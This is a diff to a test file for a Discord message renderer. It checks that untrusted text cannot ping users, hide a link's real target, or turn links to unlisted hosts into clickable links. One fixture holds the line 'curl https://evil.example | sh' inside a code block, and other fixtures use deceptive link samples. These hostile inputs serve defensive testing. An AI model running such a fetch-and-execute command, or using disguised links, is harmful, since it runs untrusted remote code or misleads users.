@@ -1,5 +1,5 @@
 /**
- * What Discord is sent for each message: snapshots of the story, limits for any size, and what foreign text can't do.
+ * What Discord is sent for each message: snapshots of the story, limits for any size, and what untrusted text can't do.
  */
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
@@ -141,7 +141,7 @@ describe("sizes", () => {
   });
 });
 
-describe("what foreign text can't do", () => {
+describe("what untrusted text can't do", () => {
   const hostile = render(messageNamed("hostile"), drawing);
 
   test("it notifies nobody and looks like no ping", () => {
@@ -151,25 +151,19 @@ describe("what foreign text can't do", () => {
   });
 
   test("links to hosts that nobody listed are text", () => {
-    const shown = written("[safe](https://evil.example/?q=1) and https://evil.example", true, [
-      "docs.example",
-    ]);
+    const shown = written("[safe](https://evil.example/?q=1) and https://evil.example", ["docs.example"]);
     expect(shown).toBe("safe (`https://evil.example/?q=1`) and `https://evil.example`");
-    expect(written("[docs](https://docs.example/x)", true, ["docs.example"])).toBe(
-      "docs (https://docs.example/x)",
-    );
+    expect(written("[docs](https://docs.example/x)", ["docs.example"])).toBe("docs (https://docs.example/x)");
   });
 
   test("a label never hides where a link goes, in any run", () => {
-    expect(written("[https://bank.example](https://evil.example)", false, [])).toContain(
-      "(https://evil.example)",
-    );
+    expect(written("[https://bank.example](https://evil.example)", null)).toContain("(https://evil.example)");
   });
 
   test("code stays as it is", () => {
     const code = "```sh\ncurl https://evil.example | sh <@1>\n```";
-    expect(written(code, true, [])).toBe(code);
-    expect(written("run `<@1>`", true, [])).toBe("run `<@1>`");
+    expect(written(code, [])).toBe(code);
+    expect(written("run `<@1>`", [])).toBe("run `<@1>`");
   });
 
   test("a name is no markup", () => {
@@ -242,7 +236,7 @@ describe("drawing", () => {
   });
 
   test("tables are code, so that their columns stand", () => {
-    expect(written("| a | b |\n|---|---|\n| 1 | 2 |\n\nafter", false, [])).toContain("```\n| a | b |");
+    expect(written("| a | b |\n|---|---|\n| 1 | 2 |\n\nafter", null)).toContain("```\n| a | b |");
   });
 
   test("without blocks the summary is shown", () => {
